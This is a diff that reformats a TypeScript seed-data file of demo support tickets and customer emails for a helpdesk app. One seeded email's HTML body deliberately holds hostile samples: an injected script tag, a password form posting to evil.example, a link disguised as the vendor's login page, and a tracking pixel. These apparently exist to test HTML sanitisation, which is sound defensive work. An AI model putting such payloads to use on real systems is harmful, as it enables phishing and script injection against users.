@@ -2,13 +2,22 @@ import { day, hour, minute, second, type Instant } from '#domain/time/instant.ts
 import type { OrganisationView } from '#contract/customers.ts';
 import type { SeedMessage, SeedTicket } from './in-memory-seed.ts';
 
-const organisation = (id: number, name: string, tier: OrganisationView['tier'], domain: string, more: Partial<OrganisationView> = {}): OrganisationView => ({
+const organisation = (
+  id: number,
+  name: string,
+  tier: OrganisationView['tier'],
+  domain: string,
+  more: Partial<OrganisationView> = {},
+): OrganisationView => ({
   id,
   name,
   tier,
   contacts: [],
   domains: [domain],
-  monthlyRevenue: { minor: tier === 'enterprise' ? 3_000_000 : tier === 'professional' ? 1_500_000 : 250_000, currency: 'USD' },
+  monthlyRevenue: {
+    minor: tier === 'enterprise' ? 3_000_000 : tier === 'professional' ? 1_500_000 : 250_000,
+    currency: 'USD',
+  },
   csm: null,
   timeZone: null,
   renewalDate: null,
@@ -29,10 +38,21 @@ const plain = {
 const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
 
 /** The tickets of the design picture, with their conversations. */
-export function pictureTickets(now: Instant): { readonly tickets: readonly SeedTicket[]; readonly organisations: readonly OrganisationView[] } {
+export function pictureTickets(now: Instant): {
+  readonly tickets: readonly SeedTicket[];
+  readonly organisations: readonly OrganisationView[];
+} {
   const organisations = [
-    organisation(1, 'Northwind Freight', 'enterprise', 'northwind.example', { csm: 'Priya N.', timeZone: 'America/New_York' }),
-    organisation(2, 'Halden Retail', 'enterprise', 'halden.example', { csm: 'Priya N.', timeZone: 'Europe/Berlin', renewalDate: '2027-03-01', contacts: [{ address: 'ines@halden.example', name: 'Ines Halden' }] }),
+    organisation(1, 'Northwind Freight', 'enterprise', 'northwind.example', {
+      csm: 'Priya N.',
+      timeZone: 'America/New_York',
+    }),
+    organisation(2, 'Halden Retail', 'enterprise', 'halden.example', {
+      csm: 'Priya N.',
+      timeZone: 'Europe/Berlin',
+      renewalDate: '2027-03-01',
+      contacts: [{ address: 'ines@halden.example', name: 'Ines Halden' }],
+    }),
     organisation(3, 'Pacto Foods', 'professional', 'pacto.example', { timeZone: 'America/Sao_Paulo' }),
     organisation(4, 'Brightcart', 'professional', 'brightcart.example', { timeZone: 'Asia/Seoul' }),
     organisation(5, 'Kettle', 'starter', 'kettle.example', { timeZone: 'Europe/Vienna' }),
@@ -40,7 +60,13 @@ export function pictureTickets(now: Instant): { readonly tickets: readonly SeedT
     organisation(7, 'Stackline', 'professional', 'stackline.app'),
   ];
 
-  const mail = (from: string, name: string, at: Instant, text: string, more: Partial<SeedMessage> = {}): SeedMessage => ({ from, name, at, direction: 'in', text, ...more });
+  const mail = (
+    from: string,
+    name: string,
+    at: Instant,
+    text: string,
+    more: Partial<SeedMessage> = {},
+  ): SeedMessage => ({ from, name, at, direction: 'in', text, ...more });
   const overdueOpened = now - hour - 4 * minute - 12 * second;
   const haldenOpened = now - 6 * minute - 19 * second;
   const pactoOpened = now - 2 * hour - 21 * minute - 55 * second;
@@ -62,9 +88,15 @@ export function pictureTickets(now: Instant): { readonly tickets: readonly SeedT
       openedAt: overdueOpened,
       evidence: ['Every request from our cluster returns 503', 'nothing gets through'],
       messages: [
-        mail('dana@northwind.example', 'Dana Reyes', overdueOpened, 'Every request from our cluster returns 503, nothing gets through. Trucks are waiting at the dock.\n\nPlease call me.', {
-          signature: '-- \nDana Reyes\nHead of Platform, Northwind Freight',
-        }),
+        mail(
+          'dana@northwind.example',
+          'Dana Reyes',
+          overdueOpened,
+          'Every request from our cluster returns 503, nothing gets through. Trucks are waiting at the dock.\n\nPlease call me.',
+          {
+            signature: '-- \nDana Reyes\nHead of Platform, Northwind Freight',
+          },
+        ),
       ],
     },
     {
@@ -89,7 +121,10 @@ export function pictureTickets(now: Instant): { readonly tickets: readonly SeedT
           'Ines Halden',
           haldenOpened,
           'Hi team,\nwe rotated our keys yesterday evening and since then every call to the inventory endpoint fails:\n\n    GET /v1/inventory?warehouse=EU-1\n    HTTP/1.1 401 Unauthorized\n    {"error":"invalid_api_key","request_id":"req_8f2c"}\n\nStock levels in our shops are now frozen, this is costing us orders. Can you check?\n\nInes',
-          { signature: '-- \nInes Halden · Platform lead\nHalden Retail GmbH', quote: '> On 22 Nov 2026, TAI Support wrote:\n> Your key rotation is scheduled for 18:00.' },
+          {
+            signature: '-- \nInes Halden · Platform lead\nHalden Retail GmbH',
+            quote: '> On 22 Nov 2026, TAI Support wrote:\n> Your key rotation is scheduled for 18:00.',
+          },
         ),
       ],
     },
@@ -109,16 +144,38 @@ export function pictureTickets(now: Instant): { readonly tickets: readonly SeedT
       openedAt: pactoOpened,
       evidence: ['You charged us $20K', 'we expected $12K'],
       messages: [
-        mail('rui@pacto.example', 'Rui Pacto', pactoOpened - 3 * hour, 'Hello,\n\ncould you send us the breakdown of INV-12345?\n\nRui'),
-        mail('support@tai.example', 'TAI Support', pactoOpened - 2 * hour, 'Hi Rui,\n\nthe breakdown is attached.\n\nBest,\nSam', { direction: 'out', attachments: [{ name: 'INV-12345 breakdown.csv', type: 'text/csv', bytes: 'aXRlbSxhbW91bnQKU0tVcywxMjAwMAo=' }] }),
-        mail('rui@pacto.example', 'Rui Pacto', pactoOpened, 'You charged us $20K but we expected $12K after the discount that was agreed in September.\n\nPlease correct it.', {
-          quote: '> Hi Rui,\n> the breakdown is attached.',
-          html: `<html><head><style>@import url(https://cdn.mailer.example/fonts.css); .total{color:#b42318;background:url(https://img.mailer.example/bg.png)}</style></head><body style="font-family:Arial"><p>You charged us <b class="total">$20K</b> but we expected <b>$12K</b> after the discount that was agreed in September.</p><table border="1" cellpadding="6"><tr><th>Item</th><th>Charged</th><th>Expected</th></tr><tr><td>450 SKUs</td><td>$12,000</td><td>$12,000</td></tr><tr><td>Participation</td><td>$8,000</td><td>–</td></tr></table><p><img src="cid:logo@pacto" alt="Pacto logo" width="24" height="24"> <img src="https://img.mailer.example/header.png" alt="Header" width="300" height="60"><img src="https://img.mailer.example/footer.jpg" alt=""><img src="https://track.mailer.example/open.gif?id=8812" width="1" height="1"></p><p>See <a href="https://pacto.example/contract">our contract</a> or <a href="https://evil.example/login">https://tai.example/login</a>.</p><script>window.top.document.title='pwned'</script><form action="https://evil.example"><input name="password"><button>Log in</button></form><blockquote type="cite">Hi Rui, the breakdown is attached.</blockquote></body></html>`,
-          attachments: [
-            { name: 'logo.png', type: 'image/png', bytes: pixel, contentId: 'logo@pacto', inline: true },
-            { name: 'contract-2026.pdf', type: 'application/pdf', bytes: 'JVBERi0xLjQK'.repeat(4_000) },
-          ],
-        }),
+        mail(
+          'rui@pacto.example',
+          'Rui Pacto',
+          pactoOpened - 3 * hour,
+          'Hello,\n\ncould you send us the breakdown of INV-12345?\n\nRui',
+        ),
+        mail(
+          'support@tai.example',
+          'TAI Support',
+          pactoOpened - 2 * hour,
+          'Hi Rui,\n\nthe breakdown is attached.\n\nBest,\nSam',
+          {
+            direction: 'out',
+            attachments: [
+              { name: 'INV-12345 breakdown.csv', type: 'text/csv', bytes: 'aXRlbSxhbW91bnQKU0tVcywxMjAwMAo=' },
+            ],
+          },
+        ),
+        mail(
+          'rui@pacto.example',
+          'Rui Pacto',
+          pactoOpened,
+          'You charged us $20K but we expected $12K after the discount that was agreed in September.\n\nPlease correct it.',
+          {
+            quote: '> Hi Rui,\n> the breakdown is attached.',
+            html: `<html><head><style>@import url(https://cdn.mailer.example/fonts.css); .total{color:#b42318;background:url(https://img.mailer.example/bg.png)}</style></head><body style="font-family:Arial"><p>You charged us <b class="total">$20K</b> but we expected <b>$12K</b> after the discount that was agreed in September.</p><table border="1" cellpadding="6"><tr><th>Item</th><th>Charged</th><th>Expected</th></tr><tr><td>450 SKUs</td><td>$12,000</td><td>$12,000</td></tr><tr><td>Participation</td><td>$8,000</td><td>–</td></tr></table><p><img src="cid:logo@pacto" alt="Pacto logo" width="24" height="24"> <img src="https://img.mailer.example/header.png" alt="Header" width="300" height="60"><img src="https://img.mailer.example/footer.jpg" alt=""><img src="https://track.mailer.example/open.gif?id=8812" width="1" height="1"></p><p>See <a href="https://pacto.example/contract">our contract</a> or <a href="https://evil.example/login">https://tai.example/login</a>.</p><script>window.top.document.title='pwned'</script><form action="https://evil.example"><input name="password"><button>Log in</button></form><blockquote type="cite">Hi Rui, the breakdown is attached.</blockquote></body></html>`,
+            attachments: [
+              { name: 'logo.png', type: 'image/png', bytes: pixel, contentId: 'logo@pacto', inline: true },
+              { name: 'contract-2026.pdf', type: 'application/pdf', bytes: 'JVBERi0xLjQK'.repeat(4_000) },
+            ],
+          },
+        ),
       ],
     },
     {
@@ -135,7 +192,14 @@ export function pictureTickets(now: Instant): { readonly tickets: readonly SeedT
       snippet: 'We registered the endpoint but nothing arrives when an order is created.',
       openedAt: now - 47 * minute - 10 * second,
       evidence: ['nothing arrives'],
-      messages: [mail('aria@brightcart.example', 'Aria Kim', now - 47 * minute - 10 * second, 'We registered the endpoint but nothing arrives when an order is created.\n\nThe URL is https://hooks.brightcart.example/tai.\n\nThanks,\nAria')],
+      messages: [
+        mail(
+          'aria@brightcart.example',
+          'Aria Kim',
+          now - 47 * minute - 10 * second,
+          'We registered the endpoint but nothing arrives when an order is created.\n\nThe URL is https://hooks.brightcart.example/tai.\n\nThanks,\nAria',
+        ),
+      ],
     },
     {
       ...plain,
@@ -151,7 +215,14 @@ export function pictureTickets(now: Instant): { readonly tickets: readonly SeedT
       snippet: 'Around 02:00 UTC roughly a third of our calls fail with 429.',
       openedAt: now - 16 * hour - 19 * minute - 49 * second,
       evidence: ['429'],
-      messages: [mail('ops@lumen.io', '', now - 16 * hour - 19 * minute - 49 * second, 'Around 02:00 UTC roughly a third of our calls fail with 429.\n\nIs there a limit we should know of?')],
+      messages: [
+        mail(
+          'ops@lumen.io',
+          '',
+          now - 16 * hour - 19 * minute - 49 * second,
+          'Around 02:00 UTC roughly a third of our calls fail with 429.\n\nIs there a limit we should know of?',
+        ),
+      ],
     },
     {
       ...plain,
@@ -167,7 +238,14 @@ export function pictureTickets(now: Instant): { readonly tickets: readonly SeedT
       snippet: 'It would be great if the rule editor could read our price lists from a sheet.',
       openedAt: now - 25 * hour - 54 * minute - 41 * second,
       evidence: ['It would be great if'],
-      messages: [mail('jonas@kettle.example', 'Jonas Weber', now - 25 * hour - 54 * minute - 41 * second, 'Hi,\n\nIt would be great if the rule editor could read our price lists from a sheet.\n\nJonas')],
+      messages: [
+        mail(
+          'jonas@kettle.example',
+          'Jonas Weber',
+          now - 25 * hour - 54 * minute - 41 * second,
+          'Hi,\n\nIt would be great if the rule editor could read our price lists from a sheet.\n\nJonas',
+        ),
+      ],
     },
     {
       ...plain,
@@ -186,9 +264,22 @@ export function pictureTickets(now: Instant): { readonly tickets: readonly SeedT
       openedAt: now - 26 * hour,
       evidence: ['Missing orders'],
       messages: [
-        mail('marta@orla.example', 'Marta Silva', now - 26 * hour, 'Missing orders from 12 November: we sent them and they do not show up.'),
-        mail('support@tai.example', 'TAI Support', now - day, 'Hi Marta,\n\nwhich orders exactly? Three order IDs would help.\n\nSam', { direction: 'out' }),
-        mail('marta@orla.example', 'Marta Silva', now - 5 * hour, 'I am out of the office until Monday.', { machine: { kind: 'out-of-office', reason: 'Auto-Submitted: auto-replied' } }),
+        mail(
+          'marta@orla.example',
+          'Marta Silva',
+          now - 26 * hour,
+          'Missing orders from 12 November: we sent them and they do not show up.',
+        ),
+        mail(
+          'support@tai.example',
+          'TAI Support',
+          now - day,
+          'Hi Marta,\n\nwhich orders exactly? Three order IDs would help.\n\nSam',
+          { direction: 'out' },
+        ),
+        mail('marta@orla.example', 'Marta Silva', now - 5 * hour, 'I am out of the office until Monday.', {
+          machine: { kind: 'out-of-office', reason: 'Auto-Submitted: auto-replied' },
+        }),
       ],
     },
     {
@@ -206,12 +297,24 @@ export function pictureTickets(now: Instant): { readonly tickets: readonly SeedT
       openedAt: now - 19 * minute,
       evidence: ['JSON parse error'],
       messages: [
-        mail('dev@stackline.app', '', now - 19 * minute, 'JSON parse error for this body:\n\n    {"warehouse": "EU-1", "items": [{"sku": "A-1", }]}', { senderWarning: 'DMARC failed: the sender may not be who they say they are' }),
+        mail(
+          'dev@stackline.app',
+          '',
+          now - 19 * minute,
+          'JSON parse error for this body:\n\n    {"warehouse": "EU-1", "items": [{"sku": "A-1", }]}',
+          { senderWarning: 'DMARC failed: the sender may not be who they say they are' },
+        ),
       ],
     },
   ];
 
-  const solved = (number: number, subject: string, type: SeedTicket['type'], daysAgo: number, took: number): SeedTicket => ({
+  const solved = (
+    number: number,
+    subject: string,
+    type: SeedTicket['type'],
+    daysAgo: number,
+    took: number,
+  ): SeedTicket => ({
     ...plain,
     number,
     organisation: 2,
@@ -231,5 +334,12 @@ export function pictureTickets(now: Instant): { readonly tickets: readonly SeedT
     evidence: [],
     messages: [mail('ines@halden.example', 'Ines Halden', now - daysAgo * day, `${subject}. Can you help?`)],
   });
-  return { tickets: [...tickets, solved(988, 'Rate limit during import', 'rate-limit', 9, 3 * hour), solved(941, 'Rule test fails on empty field', 'bug-report', 24, day)], organisations };
+  return {
+    tickets: [
+      ...tickets,
+      solved(988, 'Rate limit during import', 'rate-limit', 9, 3 * hour),
+      solved(941, 'Rule test fails on empty field', 'bug-report', 24, day),
+    ],
+    organisations,
+  };
 }
